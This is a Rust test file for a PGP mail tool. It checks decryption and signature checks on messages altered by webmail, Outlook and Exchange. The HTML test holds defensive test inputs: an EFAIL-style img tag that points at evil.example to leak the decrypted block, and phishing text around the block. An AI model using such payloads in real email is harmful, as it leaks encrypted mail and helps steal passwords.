//! Issue 16, item 6: inline PGP and PGP/MIME as real mail clients and
//! servers pass them on. Each sample is made by gpg (alice, the sender)
//! for bob, whose keyring holds his secret key and pins alice's, and then
//! changed the way the named client or server changes it:
//!
//! - webmail and Outlook write the armor's empty lines and line ends as
//!   non-breaking spaces (quoted-printable `=C2=A0`);
//! - webmail sends the armored block in a text/html body;
//! - Microsoft Exchange turns multipart/encrypted into multipart/mixed
//!   with an empty text/plain part and the two PGP/MIME parts as
//!   attachments (the mangling Thunderbird and Enigmail repair).

mod common;

use common::gpg::Gpg;
use common::pgp_mime::json_of;
use common::*;

const NBSP: &str = "\u{a0}";
const INNER: &[u8] =
    b"Content-Type: text/plain; charset=us-ascii\r\n\r\nThe meeting moves to noon.\r\n";

/// gpg with alice's and bob's keys; bob's keyring in mailseal.
struct World {
    gpg: Gpg,
    bob: Env,
}

impl World {
    fn new() -> World {
        let gpg = Gpg::new();
        let alice = gpg.generate("Alice", "alice@example.org");
        gpg.generate("Bob", "bob@example.org");
        let bob = Env::new();
        let secret = write(
            bob.dir.path(),
            "bob.asc",
            &gpg.export_secret("bob@example.org"),
        );
        bob.import(&secret);
        let cert = write(
            bob.dir.path(),
            "alice.asc",
            &gpg.export("alice@example.org"),
        );
        bob.import(&cert);
        bob.expect(
            &["trust", "pin", &alice, "--email", "alice@example.org"],
            b"",
            0,
        );
        World { gpg, bob }
    }

    /// `gpg --armor --sign --encrypt` of `data` from alice to bob, with
    /// the armor comment webmail plugins add.
    fn encrypted(&self, data: &[u8]) -> String {
        let file = write(self.gpg.home.path(), "data", data);
        let mut cmd = self.gpg.cmd();
        cmd.args(["--armor", "--comment", "Sent with a webmail plugin"])
            .args(["-u", "alice@example.org", "-r", "bob@example.org"])
            .args(["--sign", "--encrypt", "-o", "-"])
            .arg(&file);
        String::from_utf8(run_ok(&mut cmd).stdout).unwrap()
    }

    /// `gpg --clearsign` of `text` by alice.
    fn clearsigned(&self, text: &str) -> String {
        let file = write(self.gpg.home.path(), "text", text.as_bytes());
        let out = self.gpg.sign(&["--clearsign"], "alice@example.org", &file);
        String::from_utf8(out).unwrap()
    }
}

/// `armor` as webmail writes it: every empty line a non-breaking space,
/// a non-breaking space after each BEGIN and END line, the armor
/// header's spaces non-breaking.
fn with_nbsp(armor: &str) -> String {
    armor
        .lines()
        .map(|l| match l {
            "" => NBSP.to_string(),
            l if l.starts_with("-----") => format!("{l}{NBSP}"),
            l if l.starts_with("Comment:") || l.starts_with("Hash:") => l.replace(' ', NBSP),
            l => l.to_string(),
        })
        .map(|l| l + "\r\n")
        .collect()
}

/// Quoted-printable of a text whose lines are short enough as they are.
fn qp(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        match c {
            '=' => out.push_str("=3D"),
            '\u{a0}' => out.push_str("=C2=A0"),
            c => out.push(c),
        }
    }
    assert!(out.lines().all(|l| l.len() <= 76));
    out
}

fn mail(content_type: &str, encoding: &str, body: &str) -> Vec<u8> {
    format!(
        "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: mangled\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: {content_type}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}"
    )
    .into_bytes()
}

/// `--json decrypt` that must succeed: the verdict and the message.
fn decrypted(env: &Env, msg: &[u8]) -> (serde_json::Value, Vec<u8>) {
    let out = env.run(&["--json", "decrypt"], msg);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    (json_of(&out), out.stdout)
}

fn good_from_alice(v: &serde_json::Value) {
    assert_eq!(v["verdict"], "trusted", "{v}");
    let sig = &v["signatures"][0];
    assert_eq!(sig["status"], "good", "{v}");
    assert_eq!(sig["covers"], "whole", "{v}");
    assert_eq!(sig["signer"]["emails"][0], "alice@example.org", "{v}");
}

#[test]
fn armor_with_non_breaking_spaces_decrypts_and_verifies() {
    let w = World::new();
    let armored = w.encrypted(b"The meeting moves to noon.\r\n");
    let body = qp(&with_nbsp(&armored));
    assert!(body.contains("=C2=A0\r\n"), "{body}");
    let msg = mail("text/plain; charset=utf-8", "quoted-printable", &body);
    let (v, out) = decrypted(&w.bob, &msg);
    assert!(contains(&out, b"The meeting moves to noon."));
    assert!(!contains(&out, b"BEGIN PGP"));
    good_from_alice(&v);
    // A cleartext-signed text, its armor changed the same way.
    let signed = w.clearsigned("Signed, as webmail passed it on.\n");
    let body = qp(&with_nbsp(&signed));
    let msg = mail("text/plain; charset=utf-8", "quoted-printable", &body);
    let (v, code) = w.bob.verdict(&msg);
    assert_eq!(code, 0, "{v}");
    good_from_alice(&v);
    // The signed text itself is not changed: a changed word is bad.
    let forged = body.replace("Signed, as", "Signed, not as");
    let (v, code) = w.bob.verdict(&mail(
        "text/plain; charset=utf-8",
        "quoted-printable",
        &forged,
    ));
    assert_eq!(
        (code, &v["signatures"][0]["status"]),
        (1, &"bad".into()),
        "{v}"
    );
}

/// `armor` as webmail writes it in HTML: one `<div>` per line, empty
/// lines as `<div><br></div>`, the armor headers' spaces as `&nbsp;`.
fn in_html(armor: &str, before: &str, after: &str) -> String {
    let lines: String = armor
        .lines()
        .map(|l| match l {
            "" => "<div><br></div>\r\n".to_string(),
            l if l.contains(": ") => format!("<div>{}</div>\r\n", l.replace(' ', "&nbsp;")),
            l => format!("<div>{l}</div>\r\n"),
        })
        .collect();
    format!(
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\r\n\
         <body>{before}\r\n{lines}{after}</body></html>\r\n"
    )
}

#[test]
fn armored_block_in_html_body_decrypts_only_when_it_is_the_whole_body() {
    let w = World::new();
    let armored = w.encrypted(b"The meeting moves to noon.\r\n");
    let html = in_html(&armored, "", "<div><br></div>");
    let msg = mail("text/html; charset=utf-8", "7bit", &html);
    let (v, out) = decrypted(&w.bob, &msg);
    assert!(contains(&out, b"The meeting moves to noon."));
    // The plaintext is text: nothing of the HTML is kept around it.
    assert!(
        !contains(&out, b"<div"),
        "{}",
        String::from_utf8_lossy(&out)
    );
    assert!(contains(&out, b"Content-Type: text/plain"));
    good_from_alice(&v);
    // Text anyone could have written around the block: not decrypted.
    for (before, after) in [
        (
            "<p>Your invoice: <a href=\"http://evil.example/\">click</a></p>",
            "",
        ),
        ("", "<p>Reply with your password.</p>"),
    ] {
        let html = in_html(&armored, before, after);
        let msg = mail("text/html; charset=utf-8", "7bit", &html);
        let err = w.bob.refused(&["decrypt"], &msg, 4);
        assert!(err.contains("only a block inside the text"), "{err}");
    }
    // The block inside an attribute (EFAIL): not a block of the text.
    let efail = format!("<img src=\"http://evil.example/?{armored}\">");
    let msg = mail("text/html; charset=utf-8", "7bit", &efail);
    w.bob.refused(&["decrypt"], &msg, 4);
    // A cleartext-signed block that is the whole HTML body verifies.
    let signed = w.clearsigned("Signed in HTML.\n");
    let msg = mail(
        "text/html; charset=utf-8",
        "7bit",
        &in_html(&signed, "", ""),
    );
    let (v, code) = w.bob.verdict(&msg);
    assert_eq!(code, 0, "{v}");
    good_from_alice(&v);
    // With an image beside it, it covers only part of what is shown.
    let html = in_html(&signed, "<img src=\"cid:logo\">", "");
    let msg = mail("text/html; charset=utf-8", "7bit", &html);
    let (v, code) = w.bob.verdict(&msg);
    assert_eq!(
        (code, &v["signatures"][0]["covers"]),
        (3, &"part".into()),
        "{v}"
    );
}

/// A PGP/MIME message as Microsoft Exchange passes it on: multipart/mixed
/// with `first` parts in front of the two PGP/MIME parts as attachments.
fn exchange_mangled(armored: &str, first: &str) -> Vec<u8> {
    let body = format!(
        "--_000_mixed_\r\n{first}\
         --_000_mixed_\r\n\
         Content-Type: application/pgp-encrypted; name=\"PGPMIME version identification\"\r\n\
         Content-Description: PGP/MIME version identification\r\n\
         Content-Disposition: attachment; filename=\"PGPMIME version identification\"; size=10\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n\
         VmVyc2lvbjogMQ0K\r\n\r\n\
         --_000_mixed_\r\n\
         Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\
         Content-Description: OpenPGP encrypted message\r\n\
         Content-Disposition: attachment; filename=\"encrypted.asc\"\r\n\
         Content-Transfer-Encoding: 7bit\r\n\r\n\
         {armored}\r\n\
         --_000_mixed_--\r\n"
    );
    mail("multipart/mixed; boundary=\"_000_mixed_\"", "7bit", &body)
}

const EMPTY_TEXT: &str = "Content-Type: text/plain; charset=\"us-ascii\"\r\n\
     Content-Transfer-Encoding: quoted-printable\r\n\r\n\r\n";

#[test]
fn pgp_mime_rewritten_by_exchange_is_repaired_with_a_warning() {
    let w = World::new();
    let armored = w.encrypted(INNER);
    let msg = exchange_mangled(&armored, EMPTY_TEXT);
    let (v, out) = decrypted(&w.bob, &msg);
    assert!(contains(&out, b"The meeting moves to noon."));
    assert!(!contains(&out, b"multipart/mixed"));
    good_from_alice(&v);
    let warnings = v["warnings"].as_array().expect("warnings");
    assert!(
        warnings
            .iter()
            .any(|w| w["kind"] == "repaired" && w["lowers"] == false),
        "{v}"
    );
    // Said in the human report too, and by verify.
    let out = w.bob.run(&["decrypt"], &msg);
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(
        said.contains("repaired") && said.contains("Exchange"),
        "{said}"
    );
    let (v, _) = w.bob.verdict(&msg);
    assert_eq!(v["encrypted"], true, "{v}");
    assert_eq!(v["warnings"][0]["kind"], "repaired", "{v}");
    // Without the empty text part (Exchange's other form): repaired too.
    let (v, _) = decrypted(&w.bob, &exchange_mangled(&armored, ""));
    assert_eq!(v["warnings"][0]["kind"], "repaired", "{v}");
}

#[test]
fn fail_mixed_message_with_more_than_exchange_writes_is_not_repaired() {
    let w = World::new();
    let armored = w.encrypted(INNER);
    let words = "Content-Type: text/plain; charset=\"us-ascii\"\r\n\r\n\
         Open the attachment to read the message.\r\n";
    let extra = "Content-Type: text/plain\r\n\r\n\r\n--_000_mixed_\r\n\
         Content-Type: text/html\r\n\r\n<p>hello</p>\r\n";
    for first in [words, extra] {
        let msg = exchange_mangled(&armored, first);
        let err = w.bob.refused(&["decrypt"], &msg, 4);
        assert!(err.contains("nothing to decrypt"), "{err}");
        let (v, code) = w.bob.verdict(&msg);
        assert_eq!((code, v["encrypted"].as_bool()), (4, Some(false)), "{v}");
    }
    // The repaired form is still told apart: decrypting it works.
    let (v, _) = decrypted(&w.bob, &exchange_mangled(&armored, EMPTY_TEXT));
    assert_eq!(v["warnings"][0]["kind"], "repaired", "{v}");
}
